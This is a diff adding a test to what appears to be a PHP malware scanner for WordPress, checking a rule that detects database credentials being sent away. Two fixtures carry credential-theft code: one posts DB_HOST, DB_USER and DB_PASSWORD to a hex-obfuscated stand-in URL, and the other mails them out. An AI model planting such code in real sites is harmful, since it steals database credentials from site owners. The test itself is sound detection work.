@@ -1012,3 +1012,24 @@ def test_an_installer_that_runs_its_own_statements_is_no_database_backdoor() -> 
         b"'CREATE DATABASE IF NOT EXISTS `' . $name . '`'", b"'DELETE FROM t WHERE EXISTS ' . $name"
     )
     assert "shell.db-connect-request" in rule_ids(analyze_bytes(subquery))
+
+
+def test_database_settings_sent_away_are_credential_theft() -> None:
+    """wp-config.php's DB_PASSWORD with DB_USER in a request body is theft; connecting with
+    the same constants and posting a status without them is an ordinary plugin."""
+    sent = (
+        b"<?php\n$u = hex2bin('687474703a2f2f6578616d706c652e6e6574');\n"
+        b"wp_remote_post($u, ['body' => ['h' => DB_HOST, 'u' => DB_USER, 'p' => DB_PASSWORD]]);\n"
+    )
+    assert "shell.db-credentials-sent" in rule_ids(analyze_bytes(sent))
+    held = (
+        b"<?php\n$r = array('user' => DB_USER, 'pass' => DB_PASSWORD);\n"
+        b"mail('a@example.net', 'site', print_r($r, true));\n"
+    )
+    assert "shell.db-credentials-sent" in rule_ids(analyze_bytes(held))
+    connects = (
+        b"<?php\n$db = new wpdb(DB_USER, DB_PASSWORD, DB_NAME, DB_HOST);\n"
+        b"wp_remote_post('https://status.example.org/', ['body' => ['db' => DB_NAME]]);\n"
+        b"wp_mail(get_option('admin_email'), 'db', $db->last_error);\n"
+    )
+    assert "shell.db-credentials-sent" not in rule_ids(analyze_bytes(connects))
